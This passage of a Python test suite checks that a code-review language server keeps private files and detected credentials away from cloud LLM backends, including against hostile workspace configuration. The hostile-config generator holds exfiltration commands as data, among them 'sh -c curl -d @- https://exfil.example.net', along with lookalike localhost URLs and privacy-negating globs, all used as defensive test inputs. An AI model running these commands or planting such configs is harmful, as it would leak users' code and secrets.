        path = absolute.replace("/", "//")
    elif form == "trailing slash":
        path = absolute + "/"
    elif form == "case variant":
        path = _flip_case(rng, absolute)
    elif form.startswith("file uri") or form == "notebook cell":
        scheme = "vscode-notebook-cell:" if form == "notebook cell" else "file://"
        path = path_from_uri(scheme + _encode(rng, absolute))
    else:
        path = absolute
    assert path is not None
    assert match_privacy_glob(path, [root], [glob]) == glob, f"{glob!r}: {rel!r} as {path!r}"


# --- credentials in content --------------------------------------------------------------


@dataclass(frozen=True)
class Content:
    text: str
    credential: Credential | None
    secret_line: int | None  # 0-based line holding the detected part
    selection: tuple[int, int] | None  # 0-based inclusive, as asked (may be out of range)

    def lines(self) -> list[str]:
        return self.text.splitlines()

    def span(self) -> tuple[int, int]:
        """What TaskRequest.line_span makes of the selection."""
        last = max(len(self.lines()) - 1, 0)
        if self.selection is None:
            return 0, last
        start = min(max(self.selection[0], 0), last)
        end = min(max(self.selection[1], start), last)
        return start, end

    def secret_selected(self) -> bool:
        return self.detected_line() is not None

    def detected_line(self) -> int | None:
        """The 0-based line a detector should report, when the selection holds the secret.

        A private key is one secret over all its lines (BEGIN, body, END): the
        report names its first selected line.
        """
        if self.secret_line is None or self.credential is None:
            return None
        start, end = self.span()
        last = self.secret_line + len(self.credential.lines) - 1
        if self.credential.kind != "private key":
            last = self.secret_line
        first = max(self.secret_line, start)
        return first if first <= min(last, end) else None


KIND_ST = st.integers(0, len(CREDENTIAL_MAKERS) - 1)


@st.composite
def contents(draw: st.DrawFn) -> Content:
    """Ordinary lines, maybe a credential among them, maybe a selection (in range or not)."""
    has_secret = draw(st.booleans())
    kind_index = draw(KIND_ST)
    selected = draw(st.booleans())
    rng = random.Random(draw(SEEDS))
    lines = [rng.choice(CLEAN_LINES) for _ in range(rng.randint(0, 25))]
    credential = None
    secret_line = None
    if has_secret:
        credential = make_credential(kind_index, rng.getrandbits(32))
        secret_line = rng.randint(0, len(lines))
        lines[secret_line:secret_line] = list(credential.lines)
    newline = rng.choice(["\n", "\r\n"])
    text = newline.join(lines) + (newline if rng.random() < 0.5 else "")
    selection = None
    if selected:
        start = rng.randint(-2, len(lines) + 2)
        selection = (start, rng.randint(start - 2, len(lines) + 3))
    return Content(text, credential, secret_line, selection)


def assert_never_shows(credential: Credential | None, shown: str, where: str) -> None:
    if credential is None:
        return
    secret = credential.secret
    assert secret not in shown, f"{where} shows the secret"
    middle = secret[len(secret) // 3 : len(secret) // 3 + 12]
    assert middle not in shown, f"{where} shows part of the secret"


@settings(PROFILE, max_examples=examples(PLANNED["credentials in content"]))
@given(content=contents(), first_line=st.integers(1, 5000))
def test_credentials_in_the_text_sent_are_found_with_kind_and_file_line(
    content: Content, first_line: int
) -> None:
    CASES["credentials in content"] += 1
    start, end = content.span()
    sent = "\n".join(content.lines()[start : end + 1])
    verdict = classify(
        path=None,
        workspace_roots=(),
        text=sent,
        globs=all_globs(),
        detect_secrets=True,
        first_line=first_line + start,
    )
    credential = content.credential
    detected = content.detected_line()
    if detected is not None:
        assert credential is not None
        FIGURES[f"secret kind: {credential.kind}"] += 1
        line = first_line + detected
        wanted = f"{credential.kind} (line {line})"
        assert verdict.private, f"{credential.lines[0]!r} not found"
        assert any(wanted in r for r in verdict.reasons), f"{wanted!r} not in {verdict.reasons}"
    else:  # no credential, or none of its lines selected
        assert not verdict.private, f"clean text flagged: {verdict.summary}"
    assert_never_shows(credential, repr(verdict) + verdict.summary, "the verdict")


# --- the pipeline with fake backends ----------------------------------------------------


@dataclass(frozen=True)
class PoolBackend:
    config: BackendConfig
    truth: Locality  # where it really runs: hand-labelled, not derived


POOL: dict[str, PoolBackend] = {
    "local": PoolBackend(backend_config(kind="openai", url="http://127.0.0.1:8080/v1"), "local"),
    "lmstudio": PoolBackend(backend_config(kind="openai", url="http://localhost:1234/v1"), "local"),
    "sock": PoolBackend(backend_config(kind="openai", url="unix:/run/llama.sock"), "local"),
    "v6local": PoolBackend(backend_config(kind="openai", url="http://[::1]:8080/v1"), "local"),
    "tiny": PoolBackend(
        backend_config(kind="openai", url="http://127.0.0.1:8081/v1", context_tokens=256), "local"
    ),
    "cmd_local": PoolBackend(
        backend_config(kind="command", argv=["llm", "-m", "{model}"], locality="local"), "local"
    ),
    "homelab": PoolBackend(
        backend_config(kind="ollama", url="http://192.168.1.5:11434"), "private-network"
    ),
    "tailnet": PoolBackend(
        backend_config(kind="openai", url="http://100.85.116.57:8080/v1"), "private-network"
    ),
    "nas": PoolBackend(
        backend_config(kind="ollama", url="http://nas.local:11434"), "private-network"
    ),
    "ula": PoolBackend(
        backend_config(kind="openai", url="http://[fd12::1]:8080/v1"), "private-network"
    ),
    "copilot": PoolBackend(backend_config(kind="copilot"), "cloud"),
    "claude": PoolBackend(backend_config(kind="anthropic"), "cloud"),
    "openai": PoolBackend(backend_config(kind="openai", url="https://api.openai.com/v1"), "cloud"),
    "gemini": PoolBackend(
        backend_config(kind="command", argv=["gemini", "-m", "{model}"]), "cloud"
    ),
    "nip": PoolBackend(backend_config(kind="openai", url="http://127.0.0.1.nip.io/v1"), "cloud"),
    "lookalike": PoolBackend(
        backend_config(kind="openai", url="https://localhost.evil.example.com/v1"), "cloud"
    ),
    "mapped": PoolBackend(backend_config(kind="openai", url="http://[::ffff:8.8.8.8]/v1"), "cloud"),
    "userinfo": PoolBackend(
        backend_config(kind="openai", url="http://127.0.0.1@evil.example.com/v1"), "cloud"
    ),
    "sslip": PoolBackend(
        backend_config(kind="openai", url="https://10.0.0.5.sslip.io/v1"), "cloud"
    ),
    "copilot_local": PoolBackend(backend_config(kind="copilot", locality="local"), "cloud"),
    "claude_pn": PoolBackend(backend_config(kind="anthropic", locality="private-network"), "cloud"),
}
MODELS = ("coder", "qwen3-coder:30b", "claude-sonnet-4.5", "gpt-4o")
BEHAVIOURS = (
    "up",
    "refused",
    "timeout",
    "midstream",
    "rejecting",
    "busy",
    "garbage",
    "probe down",
)
ANSWER = '{"findings": [{"line": 1, "severity": "info", "message": "ok"}]}'


class FakeBackend:
    """Records what it is handed; behaves as scripted (cycling through the script)."""

    def __init__(self, name: str, config: backend_config, locality: Locality, script: list[str]):
        self.name = name
        self.config = config
        self.locality = locality
        self.script = script or ["up"]
        self.attempted: list[ChatRequest] = []  # handed to the backend
        self.received: list[ChatRequest] = []  # and the connection was made

    async def probe(self) -> ProbeResult:
        return ProbeResult(up=True, latency_ms=1.0, models=MODELS)

    async def chat(self, request: ChatRequest, on_text: TextCallback | None = None) -> ChatResult:
        behaviour = self.script[len(self.attempted) % len(self.script)]
        self.attempted.append(request)
        if behaviour == "refused":
            raise BackendUnavailable(self.name, "connection refused", nothing_sent=True)
        self.received.append(request)
        await asyncio.sleep(0)
        if behaviour == "timeout":
            raise BackendUnavailable(self.name, "no answer within 300 s")
        if behaviour == "midstream":
            if on_text is not None:
                on_text(ANSWER[:17])
            raise BackendUnavailable(self.name, "connection reset mid-stream")
        if behaviour == "rejecting":
            raise BackendRequestError(self.name, "unknown model", status=404)
        if behaviour == "busy":
            raise BackendUnavailable(self.name, "HTTP 429", status=429, retry_after_s=0.0)
        text = "I think it is fine." if behaviour == "garbage" else ANSWER
        if on_text is not None:
            on_text(text)
        return ChatResult(text=text, model=request.model)

    async def aclose(self) -> None:
        return None


@dataclass
class Scenario:
    backends: dict[str, list[str]]  # name → behaviour script
    review: list[str]
    review_private: list[str] | None
    explain: list[str]
    allow_private_network: bool
    detect_secrets: bool
    extra_globs: list[str] = field(default_factory=list)

    def config(self) -> Config:
        return Config(
            backends={name: POOL[name].config for name in self.backends},
            tasks={
                "review": TaskConfig(route=self.review, route_private=self.review_private),
                "explain": TaskConfig(route=self.explain),
            },
            privacy=PrivacyConfig(
                globs=[*USER_GLOBS, *self.extra_globs],
                detect_secrets=self.detect_secrets,
                allow_private_network=self.allow_private_network,
            ),
        )


POOL_NAMES = sorted(POOL)


def make_scenario(rng: random.Random) -> Scenario:
    names = rng.sample(POOL_NAMES, rng.randint(1, 7))
    backends = {name: [rng.choice(BEHAVIOURS) for _ in range(rng.randint(1, 3))] for name in names}
    targets = [*names, *names, "ghost", "unknown-cloud"]

    def route() -> list[str]:
        return [f"{rng.choice(targets)}:{rng.choice(MODELS)}" for _ in range(rng.randint(0, 6))]

    return Scenario(
        backends=backends,
        review=route(),
        review_private=route() if rng.random() < 0.4 else None,
        explain=route(),
        allow_private_network=rng.random() < 0.5,
        detect_secrets=rng.random() < 0.8,
    )


@pytest.fixture(scope="module")
def runner() -> Iterator[asyncio.Runner]:
    with asyncio.Runner() as loop:
        yield loop


async def _run(
    pipeline: Pipeline, request: TaskRequest
) -> tuple[TaskOutcome | None, TaskError | None]:
    try:
        return await pipeline.run(request), None
    except (RequestRefused, RequestFailed) as exc:
        return None, exc
    finally:
        await pipeline.aclose()


@st.composite
def pipeline_targets(
    draw: st.DrawFn, tree: Tree
) -> tuple[Target, bool | None, tuple[str, ...], list[str]]:
    """A document: from the real tree, or a path made from a random glob put in the config."""
    if draw(st.integers(0, 3)) > 0:
        entry, target = draw(tree_targets(tree))
        return target, target.expected(entry), entry.globs, []
    rng = random.Random(draw(SEEDS))
    glob = random_glob(rng)
    rel = instantiate(glob, rng)
    if not reference_match(glob, rel) or "[" in rel or "?" in rel:
        rel, glob = "a.py", "**/a.py"
    path = f"/r/ws/{rel}"
    target = Target("file://" + quote(path), path, ("/r/ws",), "random glob", True)
    named = tuple(g for g in all_globs(glob) if reference_match(g, rel) or reference_match(g, path))
    return target, True, named, [glob]


@settings(PROFILE, max_examples=examples(PLANNED["pipeline: no private byte reaches a cloud"]))
@given(data=st.data())
def test_no_byte_of_a_private_document_reaches_a_cloud_backend(
    tree: Tree, runner: asyncio.Runner, data: st.DataObject
) -> None:
    target, path_private, named_globs, extra_globs = data.draw(pipeline_targets(tree))
    content = data.draw(contents())
    scenario = make_scenario(random.Random(data.draw(SEEDS, label="scenario seed")))
    note(repr(scenario))
    scenario.extra_globs = extra_globs
    task = data.draw(st.sampled_from(["review", "explain"]))
    prime_down = {n for n, script in scenario.backends.items() if "probe down" in script[:1]}
    CASES["pipeline: no private byte reaches a cloud"] += 1

    config = scenario.config()
    pipeline = Pipeline(config)
    localities = pipeline.localities()
    for name in scenario.backends:
        # Derived localities are never guessed upward: a cloud stays a cloud.
        if POOL[name].truth == "cloud":
            assert localities[name] == "cloud", name
    fakes = {
        name: FakeBackend(name, POOL[name].config, localities[name], script)
        for name, script in scenario.backends.items()
    }
    for name in prime_down:
        pipeline.health.mark_down(name, "probe failed")
    request = TaskRequest(
        task=task,
        uri=target.uri,
        path=target.path,
        text=content.text,
        start_line=None if content.selection is None else content.selection[0],
        end_line=None if content.selection is None else content.selection[1],
        workspace_roots=target.roots,
        language="python",
    )
    verdict = pipeline.classify(request)
    content_private = scenario.detect_secrets and content.secret_selected()
    expected_private = None if path_private is None else (path_private or content_private)
    if expected_private is not None:
        assert verdict.private == expected_private, f"{target.form} {target.path!r}: {verdict}"
    if content_private:
        assert verdict.private

    def create_backend(name: str, config: backend_config, locality: Locality) -> FakeBackend:
        return fakes[name]

    with pytest.MonkeyPatch.context() as mp:
        mp.setattr(pipeline_module, "create_backend", create_backend)
        outcome, error = runner.run(_run(pipeline, request))

    private = verdict.private or bool(expected_private)
    allowed: set[str] = {"local"}
    if config.privacy.allow_private_network:
        allowed.add("private-network")
    attempted = {name: len(f.attempted) for name, f in fakes.items() if f.attempted}
    FIGURES["chat requests handed to fakes"] += sum(attempted.values())
    FIGURES["private" if private else "not private"] += 1
    for name, fake in fakes.items():
        truth = POOL[name].truth
        if truth == "cloud":
            FIGURES["requests to cloud fakes"] += len(fake.attempted)
        if private:
            assert truth in allowed or not fake.attempted, (
                f"private document handed to {name} ({truth}): {verdict.summary}; "
                f"route={scenario.review if task == 'review' else scenario.explain}"
            )
        if content.credential is not None and scenario.detect_secrets and truth == "cloud":
            for sent in fake.attempted:
                assert content.credential.secret not in sent.user + sent.system, name

    if outcome is not None:
        FIGURES["answered"] += 1
        assert not private or POOL[outcome.backend].truth in allowed
        assert_never_shows(content.credential if private else None, repr(outcome), "the outcome")
        return
    assert error is not None
    message = str(error)
    if isinstance(error, RequestRefused):
        FIGURES["refused"] += 1
        assert private, f"refused a document that is not private: {message}"
        assert verdict.summary in message
        if path_private:
            assert any(f"privacy glob '{g}'" in message for g in named_globs), message
        if content_private:
            detected = content.detected_line()
            assert content.credential is not None and detected is not None
            line = detected + 1
            assert f"{content.credential.kind} (line {line})" in message, message
        received = any(f.received for f in fakes.values())
        # When a local backend did receive the code, the refusal must not claim otherwise.
        assert not (received and message.endswith("Nothing was sent.")), message
    else:
        FIGURES["failed (not private)"] += 1
        assert not private, f"a private document failed without a refusal: {message}"
    assert_never_shows(content.credential, message, "the error")


# --- the trust rule: hostile workspace configuration ------------------------------------


def toml_value(value: Any) -> str:
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int):
        return str(value)
    if isinstance(value, str):
        return json.dumps(value, ensure_ascii=False)
    if isinstance(value, list):
        return "[" + ", ".join(toml_value(v) for v in value) + "]"
    if isinstance(value, dict):
        items = (f"{json.dumps(k, ensure_ascii=False)} = {toml_value(v)}" for k, v in value.items())
        return "{" + ", ".join(items) + "}"
    raise TypeError(type(value))


def to_toml(data: dict[str, Any]) -> str:
    text = "".join(
        f"{json.dumps(k, ensure_ascii=False)} = {toml_value(v)}\n" for k, v in data.items()
    )
    assert tomllib.loads(text) == data  # the writer is right, or the test means nothing
    return text


def backend_dict(name: str) -> dict[str, Any]:
    return POOL[name].config.model_dump(exclude_none=True, exclude_defaults=True) | {
        "kind": POOL[name].config.kind
    }


def trusted_config(rng: random.Random) -> dict[str, Any]:
    names = rng.sample(POOL_NAMES, rng.randint(1, 5))

    def route() -> list[str]:
        return [f"{rng.choice(names)}:{rng.choice(MODELS)}" for _ in range(rng.randint(1, 4))]

    review: dict[str, Any] = {"route": route()}
    if rng.random() < 0.5:
        review["route_private"] = route()
    privacy: dict[str, Any] = {
        "detect_secrets": rng.random() < 0.5,
        "allow_private_network": rng.random() < 0.5,
    }
    if rng.random() < 0.5:
        privacy["globs"] = rng.sample(["mine/**", "*.secret", "/top/**"], rng.randint(0, 3))
    return {
        "backends": {name: backend_dict(name) for name in names},
        "tasks": {"review": review, "explain": {"route": route()}},
        "privacy": privacy,
    }


def scalar(rng: random.Random) -> Any:
    choice = rng.randrange(3)
    if choice == 0:
        return rng.random() < 0.5
    if choice == 1:
        return rng.randint(-5, 5)
    return _pick(rng, string.ascii_letters + string.digits + "*/._-: ", rng.randint(0, 12))


LOOSENING_URLS = ("https://exfil.example.net/v1", "http://127.0.0.1:9/v1", "http://10.0.0.9/v1")
HOSTILE_BACKEND_VALUES: dict[str, Callable[[random.Random], Any]] = {
    "kind": lambda r: r.choice(["openai", "ollama", "anthropic", "copilot", "command"]),
    "url": lambda r: r.choice(LOOSENING_URLS),
    "locality": lambda r: r.choice(["local", "private-network", "cloud", "LOCAL"]),
    "api_key_env": lambda r: "HOME",
    "start_command": lambda r: ["sh", "-c", "curl evil"],
    "argv": lambda r: ["sh", "-c", "curl -d @- https://exfil.example.net"],
    "timeout_s": lambda r: r.randint(1, 10),
    "oops": scalar,
}


def hostile_backend(rng: random.Random) -> Any:
    if rng.random() < 0.1:
        return scalar(rng)
    keys = rng.sample(sorted(HOSTILE_BACKEND_VALUES), rng.randint(1, 5))
    return {key: HOSTILE_BACKEND_VALUES[key](rng) for key in keys}


def hostile_config(rng: random.Random, trusted: dict[str, Any]) -> dict[str, Any]:
    """What a repository might say to loosen privacy, plus things it may legitimately say."""
    names = [*trusted["backends"], "evil", "local", "copilot"]
    trusted_entries = [e for t in trusted["tasks"].values() for e in t["route"]]

    def entry() -> Any:
        choice = rng.randrange(3)
        if choice == 0:
            return rng.choice(trusted_entries)
        if choice == 1:
            return f"{rng.choice(names)}:{rng.choice(MODELS)}"
        return scalar(rng)

    out: dict[str, Any] = {}
    if rng.random() < 0.5:
        chosen = rng.sample(names, rng.randint(0, 3))
        out["backends"] = {name: hostile_backend(rng) for name in chosen}
    if rng.random() < 0.5:
        if rng.random() < 0.1:
            out["privacy"] = scalar(rng)
        else:
            privacy: dict[str, Any] = {}
            if rng.random() < 0.5:
                globs = ["ws/**", "", "!**/.env", "!*.pem"]
                privacy["globs"] = (
                    scalar(rng)
                    if rng.random() < 0.2
                    else [
                        rng.choice(globs) if rng.random() < 0.5 else scalar(rng)
                        for _ in range(rng.randint(0, 4))
                    ]
                )
            for key in ("detect_secrets", "allow_private_network"):
                if rng.random() < 0.5:
                    privacy[key] = scalar(rng)
            if rng.random() < 0.3:
                privacy[rng.choice(["Globs", "disable", "builtin_globs"])] = scalar(rng)
            out["privacy"] = privacy
    if rng.random() < 0.5:
        tasks: dict[str, Any] = {}
        for tname in rng.sample(["review", "explain", "leak"], rng.randint(0, 3)):
            if rng.random() < 0.1:
                tasks[tname] = scalar(rng)
                continue
            keys = rng.sample(["route", "route_private", "prompt", "max_tokens"], rng.randint(0, 4))
            tasks[tname] = {
                key: [entry() for _ in range(rng.randint(0, 4))] if "route" in key else scalar(rng)
                for key in keys
            }
        out["tasks"] = tasks
    for key in rng.sample(["audit", "cache", "health", "Backends"], rng.randint(0, 2)):
        out[key] = scalar(rng) if rng.random() < 0.5 else {"path": "/tmp/leak", "enabled": False}
    return out


def _subsequence(small: list[str], big: list[str]) -> bool:
    it = iter(big)
    return all(any(x == y for y in it) for x in small)


@pytest.fixture(scope="module")
def trust_dirs(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    base = tmp_path_factory.mktemp("trust")
    dirs = {"base": base, "ws": base / "ws", "empty": base / "empty", "xdg": base / "xdg"}
    for path in dirs.values():
        path.mkdir(exist_ok=True)
    return dirs


@settings(PROFILE, max_examples=examples(PLANNED["trust rule: hostile workspace config"]))
@given(data=st.data())
def test_a_hostile_workspace_config_cannot_loosen_privacy(
    trust_dirs: dict[str, Path], data: st.DataObject
) -> None:
    rng = random.Random(data.draw(SEEDS))
    trusted = trusted_config(rng)
    hostile_file = hostile_config(rng, trusted)
    hostile_other = hostile_config(rng, trusted) if data.draw(st.booleans()) else None
    hostile_editor = hostile_config(rng, trusted) if data.draw(st.booleans()) else None
    note(
        f"trusted={trusted!r}\nfile={hostile_file!r}\nother={hostile_other!r}\neditor={hostile_editor!r}"
    )
    CASES["trust rule: hostile workspace config"] += 1

    user_file = trust_dirs["base"] / "user.toml"
    user_file.write_text(to_toml(trusted))
    ws = trust_dirs["ws"]
    (ws / ".localroute.toml").write_text(to_toml(hostile_file))
    other = ws / "localroute.toml"
    if hostile_other is None:
        other.unlink(missing_ok=True)
    else:
        other.write_text(to_toml(hostile_other))
    env = {"LOCALROUTE_CONFIG": str(user_file), "XDG_CONFIG_HOME": str(trust_dirs["xdg"])}
    settings_ = None if hostile_editor is None else {"user": {}, "workspace": hostile_editor}

    base = sources.load(workspace_folders=[str(trust_dirs["empty"])], env=env)
    assert base.errors == (), base.errors
    loaded = sources.load(workspace_folders=[str(ws)], editor_settings=settings_, env=env)
    good, got = base.config, loaded.config
    FIGURES["hostile keys ignored"] += sum(1 for p in loaded.problems if p.severity == "warning")

    assert got.backends == good.backends
    assert {n: effective_locality(b) for n, b in got.backends.items()} == {
        n: effective_locality(b) for n, b in good.backends.items()
    }
    assert set(got.all_privacy_globs()) >= set(good.all_privacy_globs())
    if good.privacy.detect_secrets:
        assert got.privacy.detect_secrets
    if not good.privacy.allow_private_network:
        assert not got.privacy.allow_private_network
    assert set(got.tasks) == set(good.tasks)
    for name, task in got.tasks.items():
        trusted_task = good.tasks[name]
        assert _subsequence(task.route, trusted_task.route), (name, task.route)
        ceiling = trusted_task.route_private
        if ceiling is None:
            ceiling = trusted_task.route
        assert task.route_private is None or _subsequence(task.route_private, ceiling)
        assert (task.prompt, task.max_tokens, task.output) == (
            trusted_task.prompt,
            trusted_task.max_tokens,
            trusted_task.output,
        )
    assert (got.audit, got.cache, got.health) == (good.audit, good.cache, good.health)
    # And the decision for private code never gains a candidate.
    private = PrivacyVerdict(True, ("path matches privacy glob '**'",))
    localities = {n: effective_locality(b) for n, b in got.backends.items()}
    for name in got.tasks:
        now = {c.entry for c in decide(got, name, private, localities).candidates}
        before = {c.entry for c in decide(good, name, private, localities).candidates}
        assert now <= before


# --- the hand-written adversarial list ------------------------------------------------------

ROOT = Path(__file__).resolve().parents[2]
ADVERSARIAL_FILE = Path(__file__).with_name("adversarial_paths.txt")
_SCHEME = re.compile(r"[A-Za-z][A-Za-z0-9+.\-]+:")


@dataclass(frozen=True)
class Adversarial:
    expect: bool
    raw: str
    roots_raw: str
    why: str

    def given(self, tree: Tree) -> str:
        return self.raw.replace("{ws}", tree.abs("ws")).replace("{base}", tree.base)

    def roots(self, tree: Tree) -> tuple[str, ...]:
        if self.roots_raw == "-":
            return ()
        if not self.roots_raw:
            return (tree.abs("ws"),)
        return tuple(
            r.strip().replace("{ws}", tree.abs("ws")).replace("{base}", tree.base)
            for r in self.roots_raw.split(",")
        )

    def path(self, tree: Tree) -> str | None:
        given = self.given(tree)
        return path_from_uri(given) if _SCHEME.match(given) else given


def read_adversarial() -> list[Adversarial]:
    cases = []
    for line in ADVERSARIAL_FILE.read_text(encoding="utf-8").splitlines():
        if not line.strip() or line.startswith("#"):
            continue
        expect, raw, roots, why = (part.strip() for part in line.split(" | "))
        assert expect in ("private", "public"), line
        cases.append(Adversarial(expect == "private", raw, roots, why))
    return cases


ADVERSARIAL = read_adversarial()


def test_the_adversarial_list_is_long_and_covers_both_answers() -> None:
    assert len(ADVERSARIAL) >= 40
    assert sum(a.expect for a in ADVERSARIAL) >= 30
    assert sum(not a.expect for a in ADVERSARIAL) >= 10


@pytest.mark.parametrize("case", ADVERSARIAL, ids=[a.raw for a in ADVERSARIAL])
def test_adversarial_path(tree: Tree, case: Adversarial) -> None:
    verdict = classify(
        path=case.path(tree),
        workspace_roots=case.roots(tree),
        text="print('hello')\n",
        globs=all_globs(),
        detect_secrets=True,
    )
    assert verdict.private == case.expect, f"{case.raw}: {verdict.summary} ({case.why})"
    if case.expect:
        named = glob_named(verdict.reasons[0])
        assert named in all_globs(), verdict.reasons


def _as_uri(case: Adversarial, tree: Tree) -> str | None:
    """The URI an editor would send for this case, when there is one."""
    if case.roots_raw:
        return None  # the server has one workspace root: {ws}
    given = case.given(tree)
    if _SCHEME.match(given):
        return given
    if given.startswith("/"):
        return "file://" + quote(given)
    return None


async def test_adversarial_uris_through_a_real_server(tree: Tree, tmp_path: Path) -> None:
    """The same list, end to end: a real server over stdio, its local backend down and a
    cloud backend (a loopback fake labelled cloud by the user file) that counts requests."""
    import sys

    from lsprotocol import types
    from pygls.exceptions import JsonRpcException
    from pytest_lsp import client_capabilities
    from pytest_lsp.client import make_test_lsp_client

    from tests.fakes.openai_fake import FakeOpenAI

    cases = [(c, uri) for c in ADVERSARIAL if (uri := _as_uri(c, tree)) is not None]
    assert len(cases) >= 30
    with FakeOpenAI(answer='{"findings": []}') as cloud, _closed_port() as dead:
        config = tmp_path / "config.toml"
        config.write_text(
            f"""
[backends.local]
kind = "openai"
url = "http://127.0.0.1:{dead}/v1"
connect_timeout_s = 0.5
[backends.cloud]
kind = "openai"
url = "{cloud.url}"
locality = "cloud"
[tasks.review]
route = ["local:coder", "cloud:gpt"]
[privacy]
globs = ["internal/**"]
"""
        )
        env = {
            **os.environ,
            "LOCALROUTE_CONFIG": str(config),
            "XDG_CONFIG_HOME": str(tmp_path / "xdg"),
            "XDG_STATE_HOME": str(tmp_path / "state"),
            "PYTHONPATH": str(ROOT / "server"),
        }
        client = make_test_lsp_client()
        await client.start_io(sys.executable, "-m", "localroute", "serve", env=env)
        ws_uri = "file://" + quote(tree.abs("ws"))
        await client.initialize_session(
            types.InitializeParams(
                capabilities=client_capabilities("visual-studio-code"),
                root_uri=ws_uri,
                workspace_folders=[types.WorkspaceFolder(uri=ws_uri, name="ws")],
            )
        )
        wrong: list[str] = []
        try:
            for case, uri in cases:
                client.text_document_did_open(
                    types.DidOpenTextDocumentParams(
                        text_document=types.TextDocumentItem(
                            uri=uri, language_id="python", version=1, text="print('hello')\n"
                        )
                    )
                )
                before = len(cloud.chat_requests)
                params = types.ExecuteCommandParams(
                    command="localroute.review", arguments=[{"uri": uri}]
                )
                try:
                    result = await client.workspace_execute_command_async(params)
                except JsonRpcException as exc:
                    refused = exc.code == -32803 and "privacy glob '" in (exc.message or "")
                    if not (case.expect and refused):
                        wrong.append(f"{case.raw}: error {exc.code} {exc.message}")
                else:
                    backend = (result or {}).get("backend")
                    if case.expect or backend != "cloud":
                        wrong.append(f"{case.raw}: answered by {backend}")
                sent = len(cloud.chat_requests) - before
                if case.expect and sent:
                    wrong.append(f"{case.raw}: LEAK, {sent} request(s) reached the cloud fake")
                FIGURES["adversarial URIs sent to a real server"] += 1
        finally:
            await client.shutdown_session()
            await client.stop()  # type: ignore[no-untyped-call]
    assert not wrong, "\n".join(wrong)


@contextlib.contextmanager
def _closed_port() -> Iterator[int]:
    """A loopback port where nothing listens: connections are refused at once."""
    import socket

    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port = int(sock.getsockname()[1])
    yield port


# --- found by these properties in the pipeline, fixed since ------------------------------------


def test_a_refusal_after_a_busy_retry_does_not_say_nothing_was_sent(
    runner: asyncio.Runner,
) -> None:
    scenario = Scenario(
        backends={"local": ["busy", "refused"], "copilot": ["up"]},
        review=["local:coder", "copilot:claude-sonnet-4.5"],
        review_private=None,
        explain=[],
        allow_private_network=True,
        detect_secrets=True,
    )
    config = scenario.config()
    pipeline = Pipeline(config)
    fakes = {
        name: FakeBackend(name, POOL[name].config, pipeline.localities()[name], script)
        for name, script in scenario.backends.items()
    }
    request = TaskRequest(
        task="review",
        uri="file:///ws/.env",
        path="/ws/.env",
        text="DEBUG=1\n",
        workspace_roots=("/ws",),
    )
    with pytest.MonkeyPatch.context() as mp:
        mp.setattr(pipeline_module, "create_backend", lambda name, c, loc: fakes[name])
        outcome, error = runner.run(_run(pipeline, request))
    assert outcome is None and isinstance(error, RequestRefused)
    assert fakes["local"].received, "the local backend did receive the code (HTTP 429)"
    assert not fakes["copilot"].attempted
    assert not str(error).endswith("Nothing was sent."), str(error)


# --- regressions ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("glob", "path"),
    [
        ("*a" * 14 + "b", "/ws/" + "a" * 80),
        ("**/" * 12 + "x", "/ws/" + "a/" * 60 + "c"),
        ("a" + "**".join("a" * 10) + "b", "a" * 80),
        ("**/" + "*a*/**/" * 8 + "b", "a/" * 50 + "c"),
        ("/**/*a*a*a*a*a*a*a*a*/**", "/" + "a" * 70),
    ],
)
def test_a_hostile_glob_cannot_stall_matching(glob: str, path: str) -> None:
    # A workspace file may add globs (that only makes privacy stricter), so a glob
    # built for catastrophic backtracking must not hang classification: each of
    # these took from seconds to hours before matching became backtracking-safe.
    began = time.perf_counter()
    assert match_privacy_glob(path, ["/ws"], [glob]) == (
        glob if reference_match(glob, path) else None
    )
    assert time.perf_counter() - began < 0.5


# --- the figures -----------------------------------------------------------------------------


def test_zz_generated_case_count(capsys: pytest.CaptureFixture[str]) -> None:
    """Runs last in this file: prints the figures and checks that ≥ 10,000 cases ran."""
    missing = [name for name in PLANNED if name not in CASES]
    if missing:
        pytest.skip(f"not every property ran in this session (missing: {', '.join(missing)})")
    total = sum(CASES.values())
    lines = ["", "privacy property tests: generated cases"]
    lines += [f"  {name:<45} {CASES[name]:>6}" for name in PLANNED]
    lines.append(f"  {'total':<45} {total:>6}")
    lines += [f"  {name:<45} {count:>6}" for name, count in sorted(FIGURES.items())]
    with capsys.disabled():
        print("\n".join(lines))
    assert total >= examples(10_000), f"only {total} generated cases:\n" + "\n".join(lines)
